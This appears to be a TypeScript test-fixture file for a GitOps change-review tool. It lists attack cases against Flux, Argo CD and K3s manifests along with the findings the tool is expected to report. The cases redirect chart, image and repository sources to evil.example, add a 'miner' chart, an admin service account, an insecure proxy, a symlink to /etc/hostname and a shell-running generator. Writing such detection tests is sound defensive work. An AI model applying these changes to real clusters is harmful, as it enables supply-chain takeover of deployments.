// Attacks on sources of charts, images and repositories.
import type { Attack } from "./attack.ts";
import { APPLICATION, ARGO, configMap, FLUX, GIT, more, PROJECT, SYNC } from "./manifests.ts";

const MORE = "clusters/k3s/more.yaml";
const object = (apiVersion: string, kind: string, name: string, spec: string, namespace = "flux-system") =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: { name: ${name}, namespace: ${namespace} }\nspec: ${spec}\n`;
const repository = (url: string, name = "charts") =>
  object("source.toolkit.fluxcd.io/v1", "HelmRepository", name, `{ interval: 1h, url: "${url}" }`);
const release = (spec: string, name = "web") =>
  object("helm.toolkit.fluxcd.io/v2", "HelmRelease", name, spec);
const chart = (name: string, version: string, from = "charts") =>
  `{ interval: 1h, chart: { spec: { chart: ${name}, version: "${version}", sourceRef: { kind: HelmRepository, name: ${from} } } } }`;
const CHARTS = "https://charts.example.com";
const HELM = `${repository(CHARTS)}---\n${release(chart("web", "1.0.0"))}`;
const RELEASE = "HelmRelease/flux-system/web";

/** A change of a file that the base commit has. */
const changed = (before: string, after: string, file = MORE) => ({
  base: { [file]: before },
  change: { [file]: after },
});

export const CHART_SOURCES: readonly Attack[] = [
  [
    "the URL of a HelmRepository",
    changed(HELM, HELM.replace(CHARTS, "https://evil.example")),
    0,
    [
      `HelmRepository/flux-system/charts: spec.url changed from ${CHARTS} to https://evil.example`,
      `${RELEASE} installs chart web from https://evil.example`,
    ],
  ],
  [
    "another HelmRepository",
    changed(
      HELM,
      `${HELM}---\n${repository("oci://evil.example/x", "evil")}`.replace("name: charts }", "name: evil }"),
    ),
    0,
    [
      `${RELEASE}: spec.chart.spec.sourceRef.name changed from charts to evil`,
      `${RELEASE} installs chart web from oci://evil.example/x`,
    ],
  ],
  [
    "another chart and version",
    changed(HELM, HELM.replace("chart: web", "chart: miner").replace("1.0.0", "9.9.9")),
    0,
    [
      `${RELEASE}: spec.chart.spec.chart changed from web to miner`,
      `${RELEASE}: spec.chart.spec.version changed from 1.0.0 to 9.9.9`,
    ],
  ],
  [
    "chartRef instead of chart",
    changed(
      HELM,
      `${repository(CHARTS)}---\n${release("{ interval: 1h, chartRef: { kind: OCIRepository, name: evil } }")}---\n${object(
        "source.toolkit.fluxcd.io/v1",
        "OCIRepository",
        "evil",
        "{ interval: 1h, url: oci://evil.example/web }",
      )}`,
    ),
    0,
    [
      `${RELEASE}: spec.chartRef.kind added (OCIRepository)`,
      `${RELEASE}: spec.chartRef.name added (evil)`,
      `${RELEASE}: spec.chart.spec.chart removed (was web)`,
      `${RELEASE}: spec.chart.spec.sourceRef.kind removed (was HelmRepository)`,
      `${RELEASE}: spec.chart.spec.sourceRef.name removed (was charts)`,
      `${RELEASE}: spec.chart.spec.version removed (was 1.0.0)`,
      `${RELEASE} installs a chart from oci://evil.example/web`,
    ],
  ],
  [
    "a service account and a post-renderer",
    changed(
      HELM,
      HELM.replace(
        "{ interval: 1h, chart:",
        "{ serviceAccountName: admin, postRenderers: [{ kustomize: {} }], chart:",
      ),
    ),
    0,
    [
      `${RELEASE}: spec.serviceAccountName added (admin)`,
      `${RELEASE}: spec.postRenderers added ({"kustomize":{}})`,
    ],
  ],
  [
    "a new release from a new repository",
    { [MORE]: HELM.replace(CHARTS, "https://evil.example") },
    0,
    [`${RELEASE} installs chart web from https://evil.example`],
  ],
  [
    "a chart of an Application from a new repository",
    more(
      ARGO,
      APPLICATION.replace("name: api", "name: chart").replace(
        "{ repoURL: https://example.com/org/platform, targetRevision: main, path: overlays/api }",
        "{ repoURL: https://evil.example/charts, chart: web, targetRevision: 1.0.0 }",
      ),
    ),
    1,
    ["Application/argocd/chart installs chart web from https://evil.example/charts"],
  ],
  [
    "a chart of K3s",
    changed(
      object("helm.cattle.io/v1", "HelmChart", "web", "{ repo: https://charts.example.com, chart: web }"),
      object("helm.cattle.io/v1", "HelmChart", "web", "{ repo: https://evil.example, chart: web }"),
    ),
    0,
    [
      `HelmChart/flux-system/web: spec.repo changed from ${CHARTS} to https://evil.example`,
      "HelmChart/flux-system/web installs chart web from https://evil.example",
    ],
  ],
];

const AUTOMATION = object(
  "image.toolkit.fluxcd.io/v1",
  "ImageUpdateAutomation",
  "images",
  "{ interval: 1h, sourceRef: { kind: GitRepository, name: platform }, git: { push: { branch: images }, commit: { author: { email: a@example.com } } }, update: { strategy: Setters, path: ./overlays } }",
);
const RECEIVER = object(
  "notification.toolkit.fluxcd.io/v1",
  "Receiver",
  "hook",
  "{ type: github, secretRef: { name: token }, resources: [{ kind: GitRepository, name: platform }] }",
);
const argoSecret = (name: string, type: string, data: string) => `apiVersion: v1
kind: Secret
metadata: { name: ${name}, namespace: argocd, labels: { argocd.argoproj.io/secret-type: ${type} } }
stringData: ${data}
`;
const REPO_SECRET = argoSecret(
  "platform",
  "repository",
  "{ type: git, url: https://example.com/org/platform }",
);

export const AUTOMATIONS: readonly Attack[] = [
  [
    "image automation that pushes to main",
    changed(AUTOMATION, AUTOMATION.replace("branch: images", "branch: main")),
    0,
    ["ImageUpdateAutomation/flux-system/images: spec.git.push.branch changed from images to main"],
  ],
  [
    "a new image automation",
    { [MORE]: AUTOMATION.replace("branch: images", "branch: main") },
    0,
    ["new ImageUpdateAutomation/flux-system/images: commits to branch main of GitRepository/platform"],
  ],
  [
    "an image repository",
    changed(
      object(
        "image.toolkit.fluxcd.io/v1",
        "ImageRepository",
        "web",
        "{ interval: 1h, image: ghcr.io/org/web }",
      ),
      object(
        "image.toolkit.fluxcd.io/v1",
        "ImageRepository",
        "web",
        "{ interval: 1h, image: evil.example/web }",
      ),
    ),
    0,
    ["ImageRepository/flux-system/web: spec.image changed from ghcr.io/org/web to evil.example/web"],
  ],
  [
    "a Receiver",
    changed(RECEIVER, RECEIVER.replace("type: github", "type: generic")),
    0,
    ["Receiver/flux-system/hook: spec.type changed from github to generic"],
  ],
  [
    "a new Receiver",
    { [MORE]: RECEIVER },
    0,
    ["new Receiver/flux-system/hook: requests of type github reconcile GitRepository/platform"],
  ],
  [
    "the URL in a repository Secret of Argo CD",
    changed(REPO_SECRET, REPO_SECRET.replace("example.com/org", "evil.example/org")),
    0,
    [
      "Secret/argocd/platform: url changed from https://example.com/org/platform to https://evil.example/org/platform",
    ],
  ],
  [
    "a proxy and no host keys in a repository Secret",
    changed(
      REPO_SECRET,
      REPO_SECRET.replace("type: git,", "type: git, insecure: 'true', proxy: http://evil.example,"),
    ),
    0,
    [
      "Secret/argocd/platform: insecure added (true)",
      "Secret/argocd/platform: proxy added (http://evil.example)",
    ],
  ],
  [
    "a new repository Secret",
    { [MORE]: argoSecret("evil", "repo-creds", "{ url: https://evil.example }") },
    0,
    ["new Secret/argocd/evil: repo-creds https://evil.example"],
  ],
  [
    "a new cluster Secret",
    { [MORE]: argoSecret("other", "cluster", "{ name: other, server: https://10.0.0.1 }") },
    0,
    ["new Secret/argocd/other: cluster https://10.0.0.1"],
  ],
];

/** Content that is in no file of the change. */
export const FOREIGN_CONTENT: readonly Attack[] = [
  [
    "a submodule in a synced folder",
    {
      base: { [SYNC]: `${GIT.replace("spec:", "spec:\n  recurseSubmodules: true")}---\n${FLUX}` },
      change: {
        ".gitmodules": '[submodule "x"]\n\tpath = overlays/dev/x\n\turl = https://evil.example/x\n',
        "overlays/dev/x": { commit: "1".repeat(40) },
      },
    },
    2,
    ["GitRepository/flux-system/platform fetches the submodule overlays/dev/x: not followed"],
  ],
  [
    "a submodule instead of a synced folder",
    {
      "overlays/dev/config.yaml": null,
      "overlays/dev/kustomization.yaml": null,
      ".gitmodules": '[submodule "x"]\n\tpath = overlays/dev\n\turl = https://evil.example/x\n',
      "overlays/dev": { commit: "1".repeat(40) },
    },
    2,
    ["Kustomization/flux-system/dev syncs the submodule overlays/dev: not followed"],
  ],
  [
    "a remote base in a synced overlay",
    { "overlays/dev/kustomization.yaml": "resources: [config.yaml, https://evil.example/x.yaml]\n" },
    2,
    [],
  ],
  [
    "a chart in a synced overlay",
    {
      "overlays/dev/kustomization.yaml":
        "resources: [config.yaml]\nhelmCharts: [{ name: web, repo: https://evil.example, version: 1.0.0 }]\n",
    },
    2,
    [],
  ],
  [
    "a program as generator",
    {
      "overlays/dev/kustomization.yaml": "resources: [config.yaml]\ngenerators: [run.yaml]\n",
      "overlays/dev/run.yaml": `apiVersion: x/v1\nkind: Run\nmetadata: { name: x, annotations: { config.kubernetes.io/function: "exec: { path: ./run.sh }" } }\n`,
      "overlays/dev/run.sh": { program: '#!/bin/sh\ntouch "$OLDPWD/STARTED"\n' },
    },
    2,
    [],
  ],
  [
    "a link out of the repository",
    {
      "overlays/dev/kustomization.yaml": "resources: [config.yaml, far.yaml]\n",
      "overlays/dev/far.yaml": { linkTo: "/etc/hostname" },
    },
    2,
    [],
  ],
  [
    "a variable in the path of a Kustomization",
    { [SYNC]: `${GIT}---\n${FLUX.replace("./overlays/dev", `./overlays/$\u007bX}`)}` },
    2,
    [
      "Kustomization/flux-system/dev: spec.path changed from ./overlays/dev to ./overlays/$\u007bX}",
      "Kustomization/flux-system/dev is not followed: spec.path contains a variable (./overlays/$\u007bX})",
      "clusters/k3s no longer syncs overlays/dev",
    ],
  ],
  [
    "a plugin of Argo CD",
    {
      [ARGO]: `${PROJECT}---\n${APPLICATION.replace("path: overlays/api", "path: overlays/api, plugin: { name: x }")}`,
    },
    2,
    [
      "Application/argocd/api: spec.source.plugin.name added (x)",
      "a source of Application/argocd/api is not followed: it needs a plugin, and plugins are never run",
      "clusters/k3s no longer syncs overlays/api",
    ],
  ],
  [
    "a hydrator of Argo CD with another repository",
    {
      [ARGO]: `${PROJECT}---\n${APPLICATION.replace(
        /source: .*/,
        "sourceHydrator: { drySource: { repoURL: https://evil.example/x, path: x, targetRevision: main }, syncSource: { targetBranch: env, path: x } }",
      )}`,
    },
    2,
    [
      "Application/argocd/api: spec.source.path removed (was overlays/api)",
      "Application/argocd/api: spec.source.repoURL removed (was https://example.com/org/platform)",
      "Application/argocd/api: spec.source.targetRevision removed (was main)",
      "Application/argocd/api: spec.sourceHydrator.drySource.path added (x)",
      "Application/argocd/api: spec.sourceHydrator.drySource.repoURL added (https://evil.example/x)",
      "Application/argocd/api: spec.sourceHydrator.drySource.targetRevision added (main)",
      "Application/argocd/api: spec.sourceHydrator.syncSource.path added (x)",
      "Application/argocd/api: spec.sourceHydrator.syncSource.targetBranch added (env)",
      "Application/argocd/api syncs x from https://evil.example/x (main)",
      "clusters/k3s no longer syncs overlays/api",
    ],
  ],
  ["two kustomization files", { "overlays/dev/Kustomization": "resources: []\n" }, 2, []],
  ["a broken manifest", { "overlays/dev/config.yaml": `${configMap("dev")}data: {\n` }, 2, []],
];
